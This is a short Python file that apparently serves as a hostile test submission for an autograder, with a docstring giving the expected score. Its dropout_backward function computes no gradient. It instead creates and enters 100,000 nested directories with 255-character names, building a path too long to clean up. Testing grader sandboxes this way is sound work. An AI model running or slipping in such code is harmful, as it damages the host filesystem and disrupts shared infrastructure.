"""Makes folders whose path is too long to be named.

gets: dropout_forward full, dropout_backward nothing
"""

import os

from honest import *


def dropout_backward(dout, cache):
    for _ in range(10**5):
        os.mkdir("d" * 255)
        os.chdir("d" * 255)
